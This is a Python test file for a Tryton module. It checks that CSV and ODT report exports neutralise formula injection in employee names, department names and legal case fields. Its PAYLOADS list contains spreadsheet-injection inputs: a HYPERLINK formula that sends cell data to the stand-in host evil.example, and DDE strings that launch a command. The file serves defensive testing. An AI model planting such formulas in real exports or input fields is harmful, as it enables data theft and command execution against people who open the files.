# This file is part of Zhidu.  The COPYRIGHT file at the top level of
# this repository contains the full copyright notices and license terms.
"""CSV and ODT exports free of formula injection (issue 9).

User text starting with a formula character (= + - @ tab CR) must reach a
CSV export neutralised (a leading quote, regulation_base.tools.
spreadsheet_text) and an ODT report as text, never as a formula.
"""
import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

from trytond.modules.company.tests import create_company, set_company
from trytond.modules.regulation_base.tests import (
    create_department, create_staff)
from trytond.modules.regulation_base.tools import (
    FORMULA_PREFIXES, spreadsheet_text)
from trytond.pool import Pool
from trytond.tests.test_tryton import with_transaction
from trytond.transaction import Transaction

from .hardening import SuiteTestCase
from .test_bad_input import PERIOD, _case, phone_org, staff_org

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    ]
#: the payloads Tryton accepts in a name (a Char refuses tabs and CR)
NAMES = [p for p in PAYLOADS if not p.startswith(('\t', '\r'))]


def odt_content(content):
    "Return the content XML of a rendered report (flat or zipped ODF)"
    if isinstance(content, str):
        return content
    content = bytes(content)
    if content.startswith(b'PK'):
        with zipfile.ZipFile(io.BytesIO(content)) as odf:
            return odf.read('content.xml').decode('utf-8')
    return content.decode('utf-8')


TABLE = 'urn:oasis:names:tc:opendocument:xmlns:table:1.0'
OFFICE = 'urn:oasis:names:tc:opendocument:xmlns:office:1.0'
TABLE_CELL = '{%s}table-cell' % TABLE
TABLE_FORMULA = '{%s}formula' % TABLE
VALUE_TYPE = '{%s}value-type' % OFFICE


class ExportInjectionTestCase(SuiteTestCase):
    "Test the exports against formula injection"

    def assertSafeCells(self, rows, payloads):
        for row in rows:
            for cell in row:
                self.assertFalse(cell.startswith(FORMULA_PREFIXES)
                    and not re.fullmatch(r'-?\d+(\.\d+)?', cell),
                    "formula cell %r" % cell)
        text = '\n'.join(','.join(r) for r in rows)
        for payload in payloads:
            self.assertIn(spreadsheet_text(payload).strip('\r'),
                text.replace('\r', ''))

    def assertOdtText(self, content, payloads):
        "The payloads are text of the report, in no formula nor number cell"
        root = ElementTree.fromstring(odt_content(content))
        text = '\n'.join(root.itertext())
        for payload in payloads:
            self.assertIn(payload.strip(), text)
        for element in root.iter():
            for name, value in element.attrib.items():
                if name == TABLE_FORMULA:
                    for payload in payloads:
                        self.assertNotIn(payload.strip(), value)
            if element.tag == TABLE_CELL:
                cell_text = ''.join(element.itertext())
                if any(p.strip() in cell_text for p in payloads):
                    self.assertIn(element.get(VALUE_TYPE), {None, 'string'})

    def test_spreadsheet_text(self):
        "CSV cells of user text starting with = + - @ tab CR get a quote"
        for payload in PAYLOADS:
            self.assertEqual(spreadsheet_text(payload), "'" + payload)
        for safe in ['张三', 'Sales', '', '1.00', 'a=b']:
            self.assertEqual(spreadsheet_text(safe), safe)
        self.assertEqual(spreadsheet_text(None), '')

    def _statements(self):
        "Confirmed penalties of employees and departments named by payloads"
        pool = Pool()
        Penalty = pool.get('regulation.penalty')
        Rule = pool.get('regulation.penalty.rule')
        company = create_company()
        with set_company(company):
            rule, = Rule.create([{
                        'code': 'X-1', 'name': "Fine", 'clause': 'RB-3',
                        'points': 1, 'fine': Decimal(5), 'kind': 'fine'}])
            department = create_department(company, PAYLOADS[0])
            penalties = []
            for i, payload in enumerate(NAMES):
                employee = create_staff(company, payload, department)
                employee.party.code = '%s #%s' % (NAMES[-i - 1], i)
                employee.party.save()
                penalties.extend(Penalty.create([{
                                'company': company.id,
                                'date': PERIOD,
                                'employee': employee.id,
                                'department': department.id,
                                'rule': rule.id, 'kind': 'fine',
                                'clause': 'RB-3', 'points': 1,
                                'amount': Decimal(5)}]))
            Penalty.confirm(penalties)
        return company

    @with_transaction()
    def test_statement_csv(self):
        "RB-3: the payroll CSV of the deduction statement neutralises "
        "formulas in the codes and names"
        pool = Pool()
        Statement = pool.get('regulation.penalty.statement')
        company = self._statements()
        with Transaction().set_context(company=company.id, month=PERIOD):
            statements = Statement.search([])
            self.assertEqual(len(statements), len(NAMES))
            data = Statement.to_csv(statements).decode('utf-8-sig')
        rows = list(csv.reader(io.StringIO(data, newline='')))
        self.assertEqual(len(rows), len(NAMES) + 1)
        self.assertSafeCells(rows, NAMES)
        # the amounts stay numbers
        self.assertEqual({r[-1] for r in rows[1:]}, {'5.00'})

    @with_transaction()
    def test_statement_export_wizard(self):
        "RB-3: the export wizard's file is the neutralised CSV"
        pool = Pool()
        Export = pool.get(
            'regulation.penalty.statement.export', type='wizard')
        company = self._statements()
        with set_company(company):
            session_id, _, _ = Export.create()
            export = Export(session_id)
            export.start.company = company
            export.start.month = PERIOD
            export.transition_export()
            data = bytes(export.start.file).decode('utf-8-sig')
        rows = list(csv.reader(io.StringIO(data, newline='')))
        self.assertSafeCells(rows, NAMES)

    @with_transaction()
    def test_statement_report(self):
        "RB-3: the deduction statement report keeps the names as text"
        pool = Pool()
        Statement = pool.get('regulation.penalty.statement')
        Report = pool.get(
            'regulation.penalty.statement.report', type='report')
        company = self._statements()
        with Transaction().set_context(company=company.id, month=PERIOD):
            ids = [s.id for s in Statement.search([])]
            oext, content, _, _ = Report.execute(ids, {})
        self.assertIn(oext, {'odt', 'fodt'})
        self.assertOdtText(content, NAMES)

    @with_transaction()
    def test_bill_reconciliation_report(self):
        "OP-5: the bill reconciliation report keeps department names as text"
        pool = Pool()
        Bill = pool.get('office.phone.bill')
        Report = pool.get('office.phone.bill.reconciliation', type='report')
        org = phone_org()
        department = org['line'].department
        department.name = PAYLOADS[0]
        department.save()
        data = ('line,start,dialled,duration,cost\n'
            '02155550001,2026-03-02 09:00:00,02166661234,120,0.60\n'
            ).encode('utf-8')
        bill = Bill.import_file(
            org['company'], PERIOD, PAYLOADS[3], Decimal('0.60'), data)
        with set_company(org['company']):
            oext, content, _, _ = Report.execute([bill.id], {})
        self.assertOdtText(content, [PAYLOADS[0]])
        self.assertEqual(dt.date(2026, 3, 1), bill.period)

    @with_transaction()
    def test_legal_case_application_report(self):
        "LA-1: the litigation application keeps the cause and purpose as text"
        pool = Pool()
        Case = pool.get('legal.case')
        Report = pool.get('legal.case.application', type='report')
        org = staff_org()
        with set_company(org['company']):
            case, = Case.create([dict(_case(org),
                        cause=NAMES[0], purpose=NAMES[1],
                        desired_outcome=NAMES[3])])
            oext, content, _, _ = Report.execute([case.id], {})
        self.assertOdtText(content, [NAMES[0], NAMES[1]])
